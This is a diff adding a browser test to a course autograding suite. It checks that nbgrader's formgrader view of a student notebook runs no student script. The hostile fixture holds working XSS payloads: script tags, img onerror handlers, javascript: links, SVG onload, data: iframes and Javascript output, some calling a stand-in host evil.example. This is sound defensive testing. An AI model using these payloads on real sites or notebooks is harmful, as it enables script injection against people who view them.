@@ -11,9 +11,16 @@ score is still 3/4 and the autograded notebook holds the course's verdicts and t
 started by *this* JupyterLab process (:func:`autograder.sandbox.sandbox_uid`): the button ran the course's trusted
 execution in the sandbox, with the course's secret. Every request that leaves loopback is blocked.
 
+``ada``'s notebook also displays every kind of live output a kernel can send (a script in HTML, ``onerror``, a
+``javascript:`` link, an id that is formgrader's score input's, ``application/javascript``, SVG with a script,
+markdown with raw HTML, a widget view, an iframe of a ``data:`` URL) and has a markdown cell with raw HTML and an
+iframe: formgrader's view of her submission (Chromium opens it as the instructor) runs none of it, requests no
+planted URL, and its score input and comment box still save to the gradebook.
+
 Screenshots: /tmp/formgrader-shots/*.png (printed with ``pytest -s``).
 """
 
+import json
 import os
 import re
 import subprocess
@@ -44,6 +51,23 @@ LEAKY = '''def causal_mask(T: int) -> np.ndarray:
     return allowed
 '''
 UID_CELL = 'import os\n\nprint("kernel uid:", os.getuid())'
+# What ada's kernel displays: each sets window.__pwned (or asks for evil.example) if it runs in formgrader's page.
+ATTACK_CELL = r"""from IPython.display import HTML, SVG, Javascript, Markdown, display
+
+display(HTML("<script>window.__pwned = 'html-script'; document.title = 'pwned'</script>"
+             "<img src=x onerror=\"window.__pwned = 'onerror'; fetch('https://evil.example/onerror')\">"
+             "<a href=\"javascript:window.__pwned = 'link'\" id=\"causal_mask\">a link</a>"
+             "<iframe src=\"data:text/html,<script>parent.__pwned = 'data-iframe'</script>\"></iframe>"))
+display(Javascript("window.__pwned = 'javascript-output'; alert('javascript-output')"))
+display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\" onload=\"window.__pwned = 1\">'
+            '<script>window.__pwned = \"svg-script\"</script><circle cx=\"4\" cy=\"4\" r=\"4\"/></svg>'))
+display(Markdown("<img src=x onerror=\"window.__pwned = 'markdown-output'\"> **bold markdown**"))
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
+         "text/plain": "IntSlider(value=0)"}, raw=True)
+print("attack displayed")"""
+ATTACK_MARKDOWN = ("## Notes\n\n<script>window.__pwned = 'markdown-cell'</script>"
+                   "<img src=\"https://evil.example/pixel.png\" onerror=\"window.__pwned = 'md-onerror'\">\n\n"
+                   "<iframe src=\"https://evil.example/frame\"></iframe> <b>kept bold</b>")
 # The instructor's JupyterLab: nbgrader's lab extension and every nbgrader server extension on.
 PAGE_CONFIG = {"disabledExtensions": {"@jupyterlab/apputils-extension:announcements": True}}
 SERVER_CONFIG = {"ServerApp": {"jpserver_extensions": {
@@ -58,6 +82,8 @@ def _submissions(dest: Path) -> Path:
             cell = next(c for c in nb.cells if c.metadata.get("course", {}).get("exercise") == ["causal_mask"])
             cell.source = LEAKY
             nb.cells.append(nbformat.v4.new_code_cell(UID_CELL))
+        else:
+            nb.cells += [nbformat.v4.new_markdown_cell(ATTACK_MARKDOWN), nbformat.v4.new_code_cell(ATTACK_CELL)]
         path = dest / student / LESSON / f"{LESSON}.ipynb"
         path.parent.mkdir(parents=True)
         nbformat.write(nb, path)
@@ -216,3 +242,61 @@ def test_formgrader_shows_the_course_grades_and_autograde_keeps_the_sandbox(cour
     assert _scores(work) == {"ada": (4.0, 4.0), "lin": (3.0, 4.0)}
     assert not blocked, blocked
     print(f"formgrader's Autograde: {seconds:.0f} s; kernel uid {uid} (server pid {lab.process.pid})")
+
+
+def test_formgraders_view_of_a_hostile_submission_runs_no_student_script(course, instructor_lab, browser):
+    work, lab = course["work"], instructor_lab
+    autograded = nbformat.read(work / "autograded" / "ada" / LESSON / f"{LESSON}.ipynb", as_version=4)
+    shown = json.dumps([cell.get("outputs", cell.source) for cell in autograded.cells])
+    for live in ("<script>window.__pwned = 'html-script'", "application/javascript", "image/svg+xml",
+                 "widget-view+json", "window.__pwned = 'markdown-cell'"):  # the attack is there, as the kernel sent it
+        assert live in shown, live
+    with Gradebook(f"sqlite:///{work / 'gradebook.db'}", pipeline.COURSE_ID) as gb:
+        submission = gb.find_submission_notebook(LESSON, LESSON, "ada").id
+
+    page = browser.new_page(viewport={"width": 1400, "height": 900})
+    outside, dialogs = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+
+    def only_loopback(route):
+        if route.request.url.startswith(lab.base):
+            route.continue_()
+        else:
+            outside.append(route.request.url)
+            route.abort()
+
+    page.route("**/*", only_loopback)
+    try:
+        page.goto(f"{lab.base}/lab?token={lab.token}")  # the instructor's session (its cookie and XSRF token)
+        page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=60_000)
+        page.goto(f"{lab.base}/formgrader/submissions/{submission}/")
+        page.wait_for_selector("input.score", timeout=60_000)
+        page.wait_for_timeout(1500)  # images fail to load, handlers would have fired
+        _shoot(page, "6-hostile-submission")
+        assert page.evaluate("() => window.__pwned") is None
+        assert page.evaluate("() => Array.from(window.frames).length") == 0  # no iframe at all
+        assert page.title() == LESSON and not dialogs, (page.title(), dialogs)
+        assert "kept bold" in page.locator("body").inner_text()  # the markdown's harmless part stays
+        assert page.locator("[data-course-grader=verdict]").count() == 4  # the grader's sealed verdicts
+        # formgrader's own inputs: one per id (no student element took one), and they still save
+        assert page.locator("#causal_mask").count() == 1
+        score = page.locator("input.score#causal_mask")
+        score.fill("1")
+        score.press("Tab")
+        comment = page.locator("textarea#causal_mask_solution-comment")
+        comment.fill("Clear and correct.")
+        comment.press("Tab")
+        deadline = time.monotonic() + 20
+        while True:
+            with Gradebook(f"sqlite:///{work / 'gradebook.db'}", pipeline.COURSE_ID) as gb:
+                grade = gb.find_grade("causal_mask", LESSON, LESSON, "ada").manual_score
+                remark = gb.find_comment("causal_mask_solution", LESSON, LESSON, "ada").manual_comment
+            if grade == 1 and remark == "Clear and correct.":
+                break
+            assert time.monotonic() < deadline, (grade, remark)
+            page.wait_for_timeout(300)
+        assert page.evaluate("() => window.__pwned") is None
+    finally:
+        page.close()
+    assert not [url for url in outside if "evil.example" in url], outside
+    assert _scores(work)["ada"] == (4.0, 4.0)
